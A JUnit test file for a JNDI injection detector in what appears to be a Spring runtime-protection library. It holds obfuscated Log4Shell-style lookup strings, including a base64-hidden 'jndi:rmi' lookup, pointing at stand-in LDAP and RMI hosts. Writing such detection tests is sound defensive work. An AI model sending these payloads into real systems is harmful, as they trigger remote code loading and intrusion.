package io.github.raspspring.attack.lookup;

import io.github.raspspring.attack.DetectorContract;
import io.github.raspspring.engine.Confidence;
import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThat;

class JndiInjectionDetectorTests extends DetectorContract {

	JndiInjectionDetectorTests() {
		super(new JndiInjectionDetector());
	}

	@Test
	void detectWhenNothingElseCanBeMeantThenIsCertain() {
		assertThat(findings("${${::-j}ndi:ldap://a}")).singleElement().satisfies((finding) -> {
			assertThat(finding.rule()).isEqualTo(JndiInjectionDetector.NAMING_LOOKUP);
			assertThat(finding.confidence()).isEqualTo(Confidence.CERTAIN);
		});
	}

	@Test
	void detectWhenBase64HidesAnotherLookupThenReports() {
		assertThat(findings("${base64Decoder:JHtqbmRpOnJtaTovL3gvb30=}")).singleElement()
			.satisfies((finding) -> assertThat(finding.rule()).isEqualTo(JndiInjectionDetector.HIDDEN_LOOKUP));
		assertThat(findings("${base64Decoder:SGVsbG8gd29ybGQ=}")).isEmpty();
	}

}
